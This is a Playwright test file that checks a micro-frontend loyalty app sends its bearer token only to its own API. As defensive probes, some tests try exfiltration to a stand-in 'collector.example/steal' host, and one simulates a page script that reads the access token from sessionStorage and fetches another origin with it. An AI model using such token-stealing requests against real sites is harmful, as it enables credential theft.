import type { BrowserContext, Page, Request } from '@playwright/test';
import { expect, test } from '../support/fixtures';
import { REMOTE_ORIGINS, remoteOrigin, SHELL_API_CALLS, SHELL_ORIGIN } from '../support/endpoints';
import { startSignedIn } from '../support/session';
import { signIn } from '../support/sign-in';
import { openFromNavigation } from '../support/frame-actions';

interface SentRequest {
  url: string;
  origin: string;
  authorization: string | undefined;
}

/**
 * Every request any page of the context sends until the list is taken, with its Authorization
 * header as sent. Taking the list stops the recording: a request the page starts afterwards (a
 * prefetch, a beacon) would have its headers read after the test ended, and fail it.
 */
function recordRequests(context: BrowserContext): () => Promise<SentRequest[]> {
  const pending: Array<Promise<SentRequest>> = [];
  const record = (request: Request) => {
    // A request a service worker answers may never get the network's headers, and `allHeaders`
    // then waits for ever: after a while the headers the page gave it stand in, where a token set
    // by the page's code would be.
    const asSent = Promise.race([
      request.allHeaders(),
      new Promise<Record<string, string>>((resolve) => setTimeout(() => resolve(request.headers()), 5_000)),
    ]);
    pending.push(
      asSent.then((headers) => ({
        url: request.url(),
        origin: new URL(request.url()).origin,
        authorization: headers.authorization,
      })),
    );
  };
  context.on('request', record);
  return () => {
    context.off('request', record);
    return Promise.all(pending);
  };
}

/** Calls to the API, which the shell's pages make through their own origin. */
const isApiCall = (request: SentRequest) => request.url.startsWith(SHELL_API_CALLS);

/** Requests that carried a token somewhere other than the API: another origin, or a file of the shell's. */
const leaks = (requests: SentRequest[]) =>
  requests.filter((request) => request.authorization !== undefined && !isApiCall(request));

async function openSignedIn(page: Page, path: string) {
  await page.goto(path);
  await expect(page.getByTestId('top-bar-full-name')).toBeVisible();
}

test.describe('the bearer token goes to the API and nowhere else', () => {
  test("the app's HTTP client refuses every other origin, signed in and holding the token", async ({
    page,
    context,
    member,
  }) => {
    const sent = recordRequests(context);
    await startSignedIn(page, member);
    await openSignedIn(page, '/dashboard');
    await expect(page.getByTestId('balance-pointBalance')).toBeVisible();

    const elsewhere = [
      `${remoteOrigin('mf_points')}/remoteEntry.js`,
      `//${new URL(SHELL_ORIGIN).host}/config.json`,
      'https://collector.example/steal',
      ' http://collector.example/steal',
      '\\\\collector.example/steal',
      'javascript:void 0',
    ];
    // The very client the pages use: the federated singleton `@loyalty/shared/http`, from the
    // share scope the shell and the remotes negotiated.
    const outcome = await page.evaluate(async (targets) => {
      type Client = {
        http: { get(path: string): Promise<unknown> };
        getAccessToken(): string | null;
      };
      type Shared = { loaded?: boolean; lib?: () => Client; get: () => Promise<() => Client> };
      const scopes = (
        globalThis as unknown as {
          __FEDERATION__: { __SHARE__: Record<string, { default?: Record<string, Record<string, Shared>> }> };
        }
      ).__FEDERATION__.__SHARE__;
      const provided = Object.values(scopes)
        .flatMap((scope) => Object.values(scope.default?.['@loyalty/shared/http'] ?? {}))
        .find((shared) => shared.loaded);
      if (!provided) throw new Error('@loyalty/shared/http is not in the share scope');
      const client = (provided.lib ?? (await provided.get()))();

      const attempts: Record<string, string> = {};
      for (const target of targets) {
        attempts[target] = await client.http.get(target).then(
          () => 'sent',
          (error: Error) => `${error.name}: ${error.message}`,
        );
      }
      // The same client, with the same token, does reach the API.
      const own = await client.http.get('/api/auth/me').then(
        () => 'answered',
        (error: Error) => `${error.name}: ${error.message}`,
      );
      return { attempts, own, holdsToken: client.getAccessToken() !== null };
    }, elsewhere);

    expect(outcome.holdsToken).toBe(true);
    expect(outcome.own).toBe('answered');
    for (const target of elsewhere) {
      expect(outcome.attempts[target], target).toMatch(/^ApiError: (Absolute URLs are not allowed|API paths start)/);
    }

    const requests = await sent();
    expect(leaks(requests)).toEqual([]);
    // The token was really in use: the API got it, with the call above among others.
    expect(requests.filter((request) => request.authorization?.startsWith('Bearer ')).length).toBeGreaterThan(1);
    expect(requests.every((request) => !request.url.includes('collector.example'))).toBe(true);
  });

  test('a script on the page that reads the token still cannot send it to another origin', async ({
    page,
    member,
    cspViolations,
  }) => {
    await startSignedIn(page, member);
    await openSignedIn(page, '/dashboard');
    const targets = [`${remoteOrigin('mf_profile')}/collect`, 'http://collector.example/collect'];
    const sent = recordRequests(page.context());
    const outcomes = await page.evaluate(async (urls) => {
      const token = sessionStorage.getItem('accessToken');
      const results: string[] = [];
      for (const url of urls) {
        results.push(
          await fetch(url, { headers: { Authorization: `Bearer ${token}` } }).then(
            (response) => `answered ${response.status}`,
            (error: Error) => error.name,
          ),
        );
      }
      return results;
    }, targets);

    // The policy's connect-src stops both before anything leaves the browser.
    expect(outcomes).toEqual(['TypeError', 'TypeError']);
    expect(leaks(await sent())).toEqual([]);
    await expect
      .poll(async () => (await cspViolations.peek()).events.map((violation) => violation.blockedURI).sort())
      .toEqual(targets.sort());
    await cspViolations.take();
  });

  test('across a signed-in journey only requests to the API carry Authorization', async ({ page, context, member }) => {
    const sent = recordRequests(context);
    await page.goto('/auth/login');
    await signIn(page, member.email, member.password);
    await expect(page.getByTestId('balance-pointBalance')).toBeVisible();
    await openFromNavigation(page, 'Statement');
    await expect(page.getByRole('heading', { name: 'Statement', level: 1 })).toBeVisible();
    await page.goto('/dashboard/user/account');
    await expect(page.getByRole('heading', { name: 'My account' })).toBeVisible();
    await page.goto('/dashboard/user/edit-profile');
    await expect(page.getByLabel('First name')).toHaveValue(member.firstname);

    const requests = await sent();
    expect(leaks(requests)).toEqual([]);
    const origins = new Set(requests.map((request) => request.origin));
    // The journey did fetch from the shell and every remote (mf-auth for the sign-in)…
    for (const origin of [SHELL_ORIGIN, ...Object.values(REMOTE_ORIGINS)]) {
      expect(origins, origin).toContain(origin);
    }
    // …and the API calls that need the member carried the token.
    const toApi = requests.filter(isApiCall);
    expect(toApi.filter((request) => request.authorization?.startsWith('Bearer ')).length).toBeGreaterThan(3);
  });
});
